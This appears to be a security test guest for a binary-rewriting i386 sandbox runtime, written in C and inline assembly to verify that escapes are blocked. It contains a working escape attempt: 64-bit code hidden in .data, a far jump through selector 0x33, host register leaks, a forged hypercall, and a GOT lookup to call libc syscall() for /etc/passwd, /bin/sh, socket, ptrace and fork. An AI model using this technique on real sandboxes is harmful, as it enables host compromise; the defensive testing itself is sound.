// A hostile guest: it far-jumps through selector 0x33 -- the host's 64-bit code segment under
// ring1, an empty GDT slot on a real i386 (QEMU: #GP(0x30)) -- and, once in 64-bit mode, tries
// what an attacker would: read the registers for host pointers, enter the window's hypercall
// stub with a forged %r15, find the runtime through the window and call the C library's
// syscall() from it. From ring 0, or from a ring-3 program (ring=3). The escape code lies in
// .data, where the rewriter never looks: code written at run time, as far as ring1 knows.
//
// Command line (tests/test_runtime_security.py builds it from the runtime binary):
//   mode=gp     the far jump in .text (the rewriter patches it): #GP(0x30) on both machines
//   mode=regs   escape, record r8-r15 and the upper halves of the others, come back, print
//   mode=stub   escape, enter the window stub (at stub=HEX) with %r15 = 0x4141414141414141
//   mode=libc   escape, read the landing address at slot=HEX, subtract landing=HEX (the
//               landing's offset in the runtime binary), load the GOT entry at got=HEX
//               (syscall's), call syscall(call) with call = open|exec|socket|ptrace|fork
//   ring=3      do it from ring 3 (a flat DPL-3 program; int $0x30 reports back)
#include "glib.h"

// ---- what the 64-bit code reads and writes: in the escape code's own section, reached
// RIP-relative (an ELF32 object has no relocation for 64-bit code's absolute addresses) -----
extern volatile uint32_t esc_mode;
extern volatile uint64_t esc_regs[16];    // r8..r15, then rax rbx rcx rdx rsi rdi rbp rsp
extern volatile uint32_t esc_stub, esc_slot;
extern volatile uint64_t esc_landing_off, esc_got_off;
extern volatile uint64_t esc_args[4];     // syscall(nr, a1, a2, a3)
extern volatile uint64_t esc_result;
static char path[] = "/etc/passwd";
static char shell[] = "/bin/sh";

void esc_enter32(void);
__asm__(".data\n"
        ".globl esc_enter32\n"
        "esc_enter32:\n"
        "  pushal\n"
        "  movl %esp, esc_saved_esp\n"
        "  ljmp $0x33, $esc_64\n"
        "esc_ret32:\n"
        "  movl esc_saved_esp, %esp\n"
        "  popal\n"
        "  ret\n"
        ".code64\n"
        "esc_64:\n"
        "  movq %r8, esc_regs+0(%rip)\n"
        "  movq %r9, esc_regs+8(%rip)\n"
        "  movq %r10, esc_regs+16(%rip)\n"
        "  movq %r11, esc_regs+24(%rip)\n"
        "  movq %r12, esc_regs+32(%rip)\n"
        "  movq %r13, esc_regs+40(%rip)\n"
        "  movq %r14, esc_regs+48(%rip)\n"
        "  movq %r15, esc_regs+56(%rip)\n"
        "  movq %rax, esc_regs+64(%rip)\n"
        "  movq %rbx, esc_regs+72(%rip)\n"
        "  movq %rcx, esc_regs+80(%rip)\n"
        "  movq %rdx, esc_regs+88(%rip)\n"
        "  movq %rsi, esc_regs+96(%rip)\n"
        "  movq %rdi, esc_regs+104(%rip)\n"
        "  movq %rbp, esc_regs+112(%rip)\n"
        "  movq %rsp, esc_regs+120(%rip)\n"
        "  movl esc_mode(%rip), %eax\n"
        "  cmpl $2, %eax\n"
        "  je 2f\n"
        "  cmpl $3, %eax\n"
        "  je 3f\n"
        "1: ljmp *esc_back(%rip)\n"                 // m16:32: back to compat mode
        "2: movabs $0x4141414141414141, %r15\n"
        "  leaq esc_hcstack(%rip), %rsp\n"
        "  movl esc_stub(%rip), %eax\n"
        "  jmp *%rax\n"
        "3: leaq esc_stack64_top(%rip), %rsp\n"
        "  movl esc_slot(%rip), %eax\n"
        "  movq (%rax), %rbx\n"               // the runtime's exit landing
        "  subq esc_landing_off(%rip), %rbx\n"      // the runtime binary's load address
        "  addq esc_got_off(%rip), %rbx\n"
        "  movq (%rbx), %rbx\n"               // the C library's syscall()
        "  movq esc_args+0(%rip), %rdi\n"
        "  movq esc_args+8(%rip), %rsi\n"
        "  movq esc_args+16(%rip), %rdx\n"
        "  movq esc_args+24(%rip), %rcx\n"
        "  call *%rbx\n"
        "  movq %rax, esc_result(%rip)\n"
        "  jmp 1b\n"
        ".code32\n"
        ".balign 8\n"
        ".globl esc_mode, esc_regs, esc_stub, esc_slot, esc_landing_off, esc_got_off\n"
        ".globl esc_args, esc_result\n"
        "esc_regs: .space 128\n"
        "esc_landing_off: .quad 0\n"
        "esc_got_off: .quad 0\n"
        "esc_args: .quad 0, 0, 0, 0\n"
        "esc_result: .quad 0xdeadbeef\n"
        "esc_mode: .long 0\n"
        "esc_stub: .long 0\n"
        "esc_slot: .long 0\n"
        "esc_hcstack: .long 0, 0xfffffff0\n"   // [esp] resume, [esp+4] site index
        "esc_back: .long esc_ret32\n"
        "  .word 0x23\n"                      // the host's 32-bit code selector
        "esc_saved_esp: .long 0\n"
        ".balign 16\n"
        "  .space 4096\n"
        "esc_stack64_top:\n"
        ".text\n");

// ---- descriptor tables: kernel and user segments, a TSS, #GP and a report gate --------------
struct tss { uint32_t link, esp0, ss0, rest[23]; } __attribute__((packed));
static struct tss tss;
static uint64_t gdt[6];
static uint8_t kstack[4096] __attribute__((aligned(16)));
static uint8_t ustack[4096] __attribute__((aligned(16)));

static void report(void)
{
    if (esc_mode == 1) {
        static const char *const names[16] = {"r8", "r9", "r10", "r11", "r12", "r13", "r14",
                                              "r15", "rax^", "rbx^", "rcx^", "rdx^", "rsi^",
                                              "rdi^", "rbp^", "rsp^"};
        int host = 0;
        for (int i = 0; i < 16; i++) {
            uint64_t r = esc_regs[i];
            uint32_t shown = i < 8 ? (uint32_t)(r >> 32) | (uint32_t)r : (uint32_t)(r >> 32);
            if (shown) {
                puts(names[i]); puts("="); puthex((uint32_t)(r >> 32)); puthex((uint32_t)r);
                puts(" ");
                host = 1;
            }
        }
        puts(host ? "\nescape: host values in registers\n"
                  : "escape: no host value in any register\n");
    } else {
        puts("escape: back in 32-bit code, syscall() returned ");
        puthex((uint32_t)(esc_result >> 32)); puthex((uint32_t)esc_result); puts("\n");
    }
}

void gp_entry(void);
void report_entry(void);
__asm__(".globl gp_entry\n"
        "gp_entry:\n"
        "  movl $0x10, %eax\n"
        "  movl %eax, %ds\n"
        "  call gp_handler\n"
        ".globl report_entry\n"
        "report_entry:\n"
        "  movl $0x10, %eax\n"
        "  movl %eax, %ds\n"
        "  call report_handler\n");

void gp_handler(uint32_t err, uint32_t eip, uint32_t cs)
{
    (void)eip;
    puts("#GP("); puthex(err); puts(") from ring "); putdec(cs & 3); puts("\n");
    gexit(0);
}

void report_handler(void)
{
    report();
    gexit(0);
}

static void user_main(void)
{
    esc_enter32();
    __asm__ volatile("int $0x30");
    for (;;)
        ;
}

static uint64_t hex(const char *s)
{
    uint64_t v = 0;
    if (s[0] == '0' && s[1] == 'x')
        s += 2;
    for (; *s && *s != ' '; s++)
        v = v * 16 + (uint64_t)(*s <= '9' ? *s - '0' : (*s | 0x20) - 'a' + 10);
    return v;
}

static int word_is(const char *s, const char *w)
{
    while (*w && *s == *w)
        s++, w++;
    return !*w && (!*s || *s == ' ');
}

// The value of key=... in the command line, or 0.
static const char *arg(const char *cmdline, const char *key)
{
    for (const char *p = cmdline; *p; p++) {
        const char *k = key, *q = p;
        while (*k && *q == *k)
            q++, k++;
        if (!*k && *q == '=' && (p == cmdline || p[-1] == ' '))
            return q + 1;
    }
    return 0;
}

int gmain(uint32_t magic, uint32_t info)
{
    (void)magic;
    const uint32_t *mbi = (const uint32_t *)info;
    const char *cmdline = (mbi[0] & 4) ? (const char *)mbi[4] : "";
    const char *m = arg(cmdline, "mode"), *r = arg(cmdline, "ring"), *v;
    int ring3 = r && r[0] == '3';

    gdt_load_ring3(gdt, sizeof gdt / sizeof gdt[0], &tss, sizeof tss,
                   (uint32_t)(kstack + sizeof kstack));
    idt_gate(13, gp_entry);
    idt_gate_dpl(0x30, report_entry, 3);   // reached from ring 3

    if (!m || word_is(m, "gp")) {
        esc_mode = 1;
        __asm__ volatile("ljmp $0x33, $0");   // patched by the rewriter: emulated, #GP(0x30)
        puts("escape: the far jump through 0x33 did not fault\n");
        return 1;
    }
    esc_mode = word_is(m, "regs") ? 1 : word_is(m, "stub") ? 2 : 3;
    if ((v = arg(cmdline, "stub")))
        esc_stub = (uint32_t)hex(v);
    if ((v = arg(cmdline, "slot")))
        esc_slot = (uint32_t)hex(v);
    if ((v = arg(cmdline, "landing")))
        esc_landing_off = hex(v);
    if ((v = arg(cmdline, "got")))
        esc_got_off = hex(v);
    const char *call = arg(cmdline, "call");
    if (call && word_is(call, "open"))          // openat(AT_FDCWD, "/etc/passwd", O_RDONLY)
        esc_args[0] = 257, esc_args[1] = (uint64_t)-100, esc_args[2] = (uint32_t)path;
    else if (call && word_is(call, "exec"))     // execve("/bin/sh", 0, 0)
        esc_args[0] = 59, esc_args[1] = (uint32_t)shell;
    else if (call && word_is(call, "socket"))   // socket(AF_INET, SOCK_STREAM, 0)
        esc_args[0] = 41, esc_args[1] = 2, esc_args[2] = 1;
    else if (call && word_is(call, "ptrace"))   // ptrace(PTRACE_ATTACH, 1)
        esc_args[0] = 101, esc_args[1] = 16, esc_args[2] = 1;
    else if (call && word_is(call, "fork"))     // fork()
        esc_args[0] = 57;

    if (!ring3) {
        esc_enter32();
        report();
        return 0;
    }
    __asm__ volatile("pushl $0x23\n"          // ss
                     "pushl %0\n"             // esp
                     "pushl $0x002\n"         // eflags: IF=0
                     "pushl $0x1b\n"          // cs
                     "pushl %1\n"             // eip
                     "movl $0x23, %%eax\n movl %%eax, %%ds\n movl %%eax, %%es\n"
                     "iret" ::"r"((uint32_t)(ustack + sizeof ustack)), "r"(user_main) : "eax");
    return 1;
}
